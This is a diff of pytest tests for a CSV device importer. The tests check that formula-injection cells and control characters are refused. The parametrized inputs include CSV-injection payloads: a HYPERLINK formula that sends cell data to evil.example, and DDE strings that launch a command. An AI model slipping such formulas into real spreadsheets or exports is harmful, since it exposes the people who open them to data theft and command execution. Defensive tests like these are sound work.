@@ -89,9 +89,63 @@ def test_line_numbers_are_physical_lines_even_after_a_multiline_cell() -> None:
     with pytest.raises(CsvImportError) as caught:
         parse_device_csv(text)
     assert caught.value.errors == [
-        RowError(4, "latitude", "Input should be less than or equal to 90")
+        RowError(2, "name", "control character '\\n' in the cell; remove it"),
+        RowError(4, "latitude", "Input should be less than or equal to 90"),
     ]
-    assert str(caught.value) == "line 4, column latitude: Input should be less than or equal to 90"
+    assert str(caught.value).splitlines()[1] == (
+        "line 4, column latitude: Input should be less than or equal to 90"
+    )
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        '"=1+1"',
+    ],
+    ids=["hyperlink", "at-sum", "plus", "minus-dde", "quoted-equals"],
+)
+def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_refused(cell: str) -> None:
+    text = f"id,kind,name,street\nenv-01,env_monitor,Trạm 1,{cell}\n"
+    with pytest.raises(CsvImportError) as caught:
+        parse_device_csv(text)
+    [error] = caught.value.errors
+    assert (error.line, error.column) == (2, "street")
+    assert "formula" in error.reason
+
+
+@pytest.mark.parametrize(
+    ("cell", "shown"),
+    [("Tr\x00m", "\\x00"), ('"\tTab"', "\\t"), ('"x\ry"', "\\r"), ("a\x1bb", "\\x1b")],
+    ids=["nul", "tab", "cr", "escape"],
+)
+def test_control_characters_in_a_cell_are_refused_naming_them(cell: str, shown: str) -> None:
+    text = f"id,kind,name\nenv-01,env_monitor,{cell}\n"
+    with pytest.raises(CsvImportError) as caught:
+        parse_device_csv(text)
+    [error] = caught.value.errors
+    assert (error.line, error.column) == (2, "name")
+    assert f"control character '{shown}'" in error.reason
+
+
+def test_negative_numbers_stay_numbers_and_every_unsafe_cell_of_a_row_is_named() -> None:
+    text = (
+        "id,kind,name,latitude,longitude,street,ward\n"
+        "env-01,env_monitor,Trạm,-10.5,-105.77,Hai Bà Trưng,\n"
+        "env-02,env_monitor,=1+1,10.5,105.77,@x,-y\n"
+    )
+    with pytest.raises(CsvImportError) as caught:
+        parse_device_csv(text)
+    assert [(e.line, e.column) for e in caught.value.errors] == [
+        (3, "name"),
+        (3, "street"),
+        (3, "ward"),
+    ]
+    [device] = parse_device_csv(text.splitlines(keepends=True)[0] + text.splitlines()[1])
+    assert (device.latitude, device.longitude) == (-10.5, -105.77)
 
 
 @pytest.mark.parametrize(
